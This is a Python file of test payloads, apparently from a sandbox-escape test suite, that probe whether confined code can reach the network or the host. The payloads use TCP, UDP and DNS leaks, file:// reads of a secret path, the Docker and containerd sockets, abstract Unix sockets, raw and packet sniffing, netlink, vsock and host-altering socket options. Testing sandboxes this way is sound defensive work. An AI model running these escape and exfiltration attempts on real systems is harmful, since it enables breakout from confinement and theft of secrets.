"""Sockets of every family, names asked for, packets made by hand."""

from tests.escapes.corpus import TRY, Payload

PAYLOADS: list[Payload] = [
    Payload("network", "TCP by every address of this host", (TRY, r"""
import socket
for host in ("127.0.0.1", "localhost", "0.0.0.0", "127.1", "127.0.0.2", "::1", "::ffff:127.0.0.1", "2130706433", "0x7f000001",
             "0177.0.0.1",
             socket.gethostname(), "::"):
    attempt(host, lambda: socket.create_connection((host, {{PORT}}), 0.5).send(b"owned"))
s = socket.socket(socket.AF_INET6); s.settimeout(0.5)
attempt("mapped", s.connect, ("::ffff:127.0.0.1", {{PORT}}))
t = socket.socket(); t.settimeout(0.5)
attempt("device", lambda: t.setsockopt(socket.SOL_SOCKET, 25, b"lo"))
attempt("mark", lambda: t.setsockopt(socket.SOL_SOCKET, 36, 1))
attempt("connect_ex", t.connect_ex, ("127.0.0.1", {{PORT}}))
""")),
    Payload("network", "UDP in every way", (TRY, r"""
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", {{UDP}})), (socket.AF_INET6, ("::1", {{UDP}})),
                        (socket.AF_INET, ("", {{UDP}})), (socket.AF_INET, ("255.255.255.255", {{UDP}})),
                        (socket.AF_INET, ("224.0.0.1", {{UDP}}))):
    def send():
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return s.sendto(b"owned", address), s.sendmsg([b"owned"], [], 0, address), s.connect(address), s.send(b"owned")
    attempt(address[0], send)
attempt("lite", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(b"owned", ("127.0.0.1", {{UDP}})))
""")),
    Payload("network", "urllib, http, ftp, smtp, xmlrpc", (TRY, r"""
import ftplib, http.client, poplib, smtplib, urllib.request, xmlrpc.client, imaplib
base = "http://127.0.0.1:{{PORT}}"
attempt("urlopen", lambda: urllib.request.urlopen(base + "/x", timeout=1))
attempt("file", lambda: urllib.request.urlopen("file://{{SECRET}}"))
attempt("retrieve", lambda: urllib.request.urlretrieve("file://{{SECRET}}", "{{TARGETDIR}}/owned"))
proxy = urllib.request.build_opener(urllib.request.ProxyHandler({"http": base}))
attempt("proxy", lambda: proxy.open("http://a.invalid", timeout=1))
attempt("http", lambda: http.client.HTTPConnection("127.0.0.1", {{PORT}}, timeout=1).request("GET", "/"))
attempt("ftp", lambda: ftplib.FTP(timeout=1).connect("127.0.0.1", {{PORT}}))
attempt("smtp", lambda: smtplib.SMTP("127.0.0.1", {{PORT}}, timeout=1))
attempt("pop", lambda: poplib.POP3("127.0.0.1", {{PORT}}, timeout=1))
attempt("imap", lambda: imaplib.IMAP4("127.0.0.1", {{PORT}}, timeout=1))
attempt("xmlrpc", lambda: xmlrpc.client.ServerProxy(base).x())
attempt("data", lambda: urllib.request.urlopen("data:text/plain,x"))
""")),
    Payload("network", "asyncio, selectors and socketserver", (TRY, r"""
import asyncio, socketserver, threading
async def main():
    for call in (lambda: asyncio.open_connection("127.0.0.1", {{PORT}}), lambda: asyncio.open_unix_connection("{{UNIX}}"),
                 lambda: asyncio.open_unix_connection("\0{{ABSTRACT}}"),
                 lambda: asyncio.get_running_loop().create_datagram_endpoint(
                     asyncio.DatagramProtocol, remote_addr=("127.0.0.1", {{UDP}}))):
        try:
            first, second = await asyncio.wait_for(call(), 1)
            (first.sendto if hasattr(first, "sendto") else second.write)(b"owned")
            print("connected", first)
        except BaseException as error:
            print(type(error), error)
attempt("asyncio", lambda: asyncio.run(main()))
server = attempt("server", lambda: socketserver.TCPServer(("0.0.0.0", 0), socketserver.BaseRequestHandler).server_address)
""")),
    Payload("network", "getaddrinfo and the resolver", (TRY, r"""
import socket
for name in ("localhost", "example.invalid", "host.docker.internal", "token.of.this.session.example.invalid"):
    attempt(name, socket.getaddrinfo, name, 80)
    attempt("ex", socket.gethostbyname_ex, name)
attempt("reverse", socket.gethostbyaddr, "127.0.0.1")
attempt("service", socket.getservbyname, "http")
attempt("interfaces", socket.if_nameindex)
attempt("hosts", lambda: open("/etc/hosts").read())
""")),
    Payload("network", "DNS questions made by hand", (TRY, r"""
import os, socket, struct
question = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\4leak\7example\7invalid\0\0\1\0\1"
servers = ["127.0.0.1", "127.0.0.53"]
attempt("resolv", lambda: servers.extend(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")))
for server in servers[:2]:
    attempt(server, lambda: socket.socket(2, 2).sendto(question, (server, {{UDP}})))
    attempt("tcp", lambda: socket.create_connection((server, {{PORT}}), 1).send(struct.pack(">H", len(question)) + question))
attempt("dnspython", lambda: __import__("dns.query").query.udp(__import__("dns.message").message.make_query("a.invalid", "A"),
                                                               "127.0.0.1", 1, {{UDP}}))
os.environ["RES_OPTIONS"] = "ndots:0"; os.environ["LOCALDOMAIN"] = "invalid"; os.environ["HOSTALIASES"] = "{{SECRET}}"
attempt("aliases", socket.gethostbyname, "x")
""")),
    Payload("network", "pathname sockets", (TRY, r"""
import glob, os, socket
tmp = os.environ.get("TMPDIR", "/tmp")
attempt("link", os.symlink, "{{UNIX}}", tmp + "/s")
for path in ("{{UNIX}}", tmp + "/s", "/proc/{{PID}}/root{{UNIX}}", "/proc/self/root{{UNIX}}", os.path.relpath("{{UNIX}}")):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        def send():
            s = socket.socket(socket.AF_UNIX, kind); s.settimeout(1); s.connect(path); return s.send(b"owned")
        attempt(path, send)
for path in ("/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/dev/log", "/run/snapd.socket",
             "/tmp/.X11-unix/X0",
             "/run/containerd/containerd.sock", "/run/nscd/socket", "/run/systemd/notify", "/run/systemd/journal/socket"):
    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path))
""")),
    Payload("abstract sockets", "connect in stream, datagram and packet kind", (TRY, r"""
import socket
for name in ("\0{{ABSTRACT}}", "\0{{ABSTRACT}}\0", b"\0{{ABSTRACT}}"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        def send():
            s = socket.socket(socket.AF_UNIX, kind); s.settimeout(1); s.connect(name); return s.send(b"owned")
        attempt(repr(name), send)
    attempt("sendto", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"owned", name))
""")),
    Payload("abstract sockets", "the name taken, autobound, listed", (TRY, r"""
import socket
server = socket.socket(socket.AF_UNIX)
attempt("bind", server.bind, "\0{{ABSTRACT}}")
attempt("listen", server.listen)
attempt("connect", lambda: socket.socket(socket.AF_UNIX).connect("\0{{ABSTRACT}}"))
auto = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
attempt("auto", lambda: (auto.bind(""), auto.getsockname()))
attempt("from auto", lambda: auto.sendto(b"owned", "\0{{ABSTRACT}}"))
attempt("list", lambda: open("/proc/net/unix").read()[:4000])
for n in range(0, 1 << 12):
    try:
        s = socket.socket(socket.AF_UNIX); s.connect("\0%05x" % n); print("connected", n)
    except OSError:
        pass
""")),
    Payload("abstract sockets", "well-known names of desktops and services", (TRY, r"""
import socket
for name in ("/tmp/.X11-unix/X0", "/tmp/dbus-", "/com/ubuntu/upstart", "/containerd-shim/moby",
             "/org/kernel/linux/storage/multipathd",
             "ISCSIADM_ABSTRACT_NAMESPACE", "/var/run/ganesha", "{{ABSTRACT}}", "agentforge", "zygote", "sandbox", "pool"):
    for kind in (1, 2, 5):
        attempt(name, lambda: socket.socket(socket.AF_UNIX, kind).connect("\0" + name))
""")),
    Payload("abstract sockets", "multiprocessing and asyncio with abstract names", (TRY, r"""
import asyncio, multiprocessing.connection as c, os
attempt("client", lambda: c.Client("\0{{ABSTRACT}}", "AF_UNIX").send("owned"))
attempt("listener", lambda: c.Listener("\0{{ABSTRACT}}", "AF_UNIX"))
attempt("async", lambda: asyncio.run(asyncio.open_unix_connection("\0{{ABSTRACT}}")))
attempt("zmq", lambda: __import__("zmq").Context().socket(1).connect("ipc://@{{ABSTRACT}}"))
attempt("http",
        lambda: __import__("httpx2").Client(transport=__import__("httpx2").HTTPTransport(uds="\0{{ABSTRACT}}")).get("http://x"))
def fork():
    if os.fork() == 0:
        c.Client("\0{{ABSTRACT}}", "AF_UNIX"); os._exit(0)
attempt("fork", fork)
""")),
    Payload("odd sockets", "raw, packet and ICMP", (TRY, r"""
import socket, struct
ip = struct.pack(">BBHHHBBH4s4s", 69, 0, 33, 1, 0, 64, 17, 0, bytes([127, 0, 0, 1]), bytes([127, 0, 0, 1]))
udp = struct.pack(">4H", 999, {{UDP}}, 13, 0) + b"owned"
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).sendto(ip + udp, ("127.0.0.1", 0)))
attempt("raw udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 17).sendto(udp, ("127.0.0.1", 0)))
attempt("raw6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 17).sendto(udp, ("::1", 0)))
attempt("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b"\x08\0\0\0\0\0\0\0", ("127.0.0.1", 0)))
def packet():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    return s.sendto(ip + udp, ("lo", 0x0800, 0, 0, bytes(6)))
attempt("packet", packet)
attempt("sniff", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).recv(99, socket.MSG_DONTWAIT))
""")),
    Payload("odd sockets", "netlink of every protocol", (TRY, r"""
import socket, struct
for protocol in range(0, 23):
    def ask():
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
        s.settimeout(0.2); s.bind((0, 0xffffffff))
        s.send(struct.pack("IHHIIB15x", 32, 18, 0x301, 1, 0, 0))
        return s.recv(4096)[:64]
    attempt(protocol, ask)
attempt("uevent", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 15).sendto(b"add@/owned\0ACTION=add\0", (1, 1)))
audit, diag = struct.pack("IHHII", 16, 1000, 1, 1, 0), struct.pack("IHHIIBBHIII24x", 64, 20, 0x301, 1, 0, 1, 0, 0, 0xffff, 0, 31)
attempt("audit", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9).sendto(audit, (0, 0)))
attempt("diag", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4).send(diag))
""")),
    Payload("odd sockets", "vsock to the hypervisor", (TRY, r"""
import socket
for cid in (0, 1, 2, 3, 0xffffffff):
    for port in ({{PORT}}, 22, 80, 1024, 9999):
        def send():
            s = socket.socket(40, socket.SOCK_STREAM); s.settimeout(0.3); s.connect((cid, port)); return s.send(b"owned")
        attempt((cid, port), send)
    attempt("datagram", lambda: socket.socket(40, socket.SOCK_DGRAM).sendto(b"owned", (cid, 1)))
attempt("cid", lambda: __import__("fcntl").ioctl(open("/dev/vsock"), 0x7b9, bytes(4)))
""")),
    Payload("odd sockets", "every family and kind there is", (r"""
import socket
made = []
for family in range(0, 46):
    for kind in (1, 2, 3, 4, 5, 6, 10):
        for protocol in (0, 1, 6, 17, 132, 255, 262):
            try:
                s = socket.socket(family, kind, protocol)
                made.append((family, kind, protocol)); s.close()
            except (OSError, OverflowError):
                pass
print(made)
for family, kind, protocol in made:
    try:
        s = socket.socket(family, kind, protocol); s.settimeout(0.2)
        s.connect(("127.0.0.1", {{PORT}})); s.send(b"owned")
    except Exception as error:
        print(family, kind, protocol, error)
""",)),
    Payload("odd sockets", "kernel crypto (AF_ALG), bluetooth, CAN, TIPC, XDP", (TRY, r"""
import socket
def alg():
    s = socket.socket(38, socket.SOCK_SEQPACKET); s.bind(("hash", "sha256"))
    op, _ = s.accept(); op.send(b"x"); return op.recv(32)
attempt("alg", alg)
attempt("aead", lambda: socket.socket(38, socket.SOCK_SEQPACKET).bind(("aead", "gcm(aes)")))
attempt("bluetooth", lambda: socket.socket(31, 3, 1))
attempt("can", lambda: socket.socket(29, 3, 1).bind(("lo",)))
attempt("tipc", lambda: socket.socket(30, socket.SOCK_RDM).sendto(b"owned", (1, 1, 1, 1)))
attempt("xdp", lambda: socket.socket(44, 3, 0))
attempt("rds", lambda: socket.socket(21, 5, 0).bind(("127.0.0.1", 0)))
attempt("kcm", lambda: socket.socket(41, 5, 0))
attempt("qipcrtr", lambda: socket.socket(42, 2, 0))
attempt("smc", lambda: socket.socket(43, 1, 0).connect(("127.0.0.1", {{PORT}})))
attempt("x25", lambda: socket.socket(9, 5, 0))
""")),
    Payload("odd sockets", "socket options that change the host", (TRY, r"""
import fcntl, socket, struct
s, d = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("iptables", lambda: s.getsockopt(0, 64, 84))
attempt("ulp", lambda: s.setsockopt(6, 31, b"tls"))
attempt("congestion", lambda: s.setsockopt(6, 13, b"cubic"))
attempt("bpf", lambda: s.setsockopt(1, 26, bytes(16)))
attempt("transparent", lambda: s.setsockopt(0, 19, 1))
attempt("repair", lambda: s.setsockopt(6, 19, 1))
attempt("force buffer", lambda: s.setsockopt(1, 33, 1 << 30))
for request in (0x8913, 0x8915, 0x8912, 0x8927, 0x8942, 0x8946, 0x89f0):
    attempt(hex(request), lambda: fcntl.ioctl(d, request, struct.pack("16s240x", b"lo")))
attempt("tun", lambda: fcntl.ioctl(open("/dev/net/tun", "r+b", 0), 0x400454ca, struct.pack("16sH22x", b"x", 1)))
""")),
    Payload("odd sockets", "listening for the host and other sessions", (TRY, r"""
import socket
for host, port in (("0.0.0.0", 0), ("127.0.0.1", {{PORT}}), ("", {{UDP}}), ("::", 0)):
    def listen():
        s = socket.socket(socket.AF_INET6 if host == "::" else socket.AF_INET)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        s.bind((host, port)); s.listen(); s.settimeout(0.2)
        return s.getsockname(), s.accept()
    attempt((host, port), listen)
attempt("steal", lambda: socket.socket(2, 2).bind(("127.0.0.1", {{UDP}})))
""")),
]
